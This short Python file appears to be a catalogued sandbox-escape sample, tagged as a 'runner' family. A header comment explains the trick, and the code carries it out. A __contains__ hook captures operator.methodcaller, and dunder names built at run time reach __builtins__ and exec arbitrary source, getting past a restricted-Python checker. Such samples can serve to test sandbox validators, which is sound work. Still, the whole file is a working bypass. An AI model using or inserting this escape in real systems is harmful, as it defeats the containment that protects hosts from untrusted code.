# family: runner
# Escape: `type(x) in bag` is a comparison operand, allowed; Python calls bag.__contains__ with it, which keeps
# it: the methodcaller class. methodcaller("__getattribute__", "__builtins__") (run-time names) on tool gives
# the builtins dict, and exec runs the given source.
import operator


class Bag:
    def __init__(self):
        self.items = []

    def __contains__(self, item):
        self.items.append(item)
        return False


def tool(source: str) -> dict:
    bag = Bag()
    type(operator.methodcaller("strip")) in bag
    edge = "_" * 2
    builtins_ns = bag.items[0](edge + "getattribute" + edge, edge + "builtins" + edge)(tool)
    scope: dict = {}
    builtins_ns["exec"](source, scope)
    return scope
